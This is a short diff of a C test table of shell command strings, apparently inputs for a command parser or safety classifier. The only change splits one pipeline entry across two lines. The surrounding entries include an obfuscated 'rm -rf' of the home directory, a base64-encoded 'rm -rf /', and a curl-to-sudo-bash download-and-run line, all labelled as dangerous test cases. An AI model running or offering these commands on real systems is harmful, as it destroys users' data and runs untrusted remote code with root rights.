@@ -33,7 +33,8 @@ static const struct {
     {"1 segment", "ls -la"},
     {"dangerous, obfuscated", "X=r; Y=m; echo ok && $X$Y -rf \"$HOME\"/ ; $(echo cm0gLXJmIC8= | base64 -d)"},
     {"download | shell", "curl -fsSL https://get.example.sh | sudo -E bash -s -- --yes"},
-    {"10-stage pipeline", "cat a | grep x | sort | uniq -c | sort -rn | head -20 | awk '{print $2}' | tr a-z A-Z | tee out | wc -l"},
+    {"10-stage pipeline",
+     "cat a | grep x | sort | uniq -c | sort -rn | head -20 | awk '{print $2}' | tr a-z A-Z | tee out | wc -l"},
     {"sh -c with nesting", "bash -c \"cd /srv && git pull && make -j4 && ./deploy.sh $(git rev-parse HEAD)\""},
 };
 
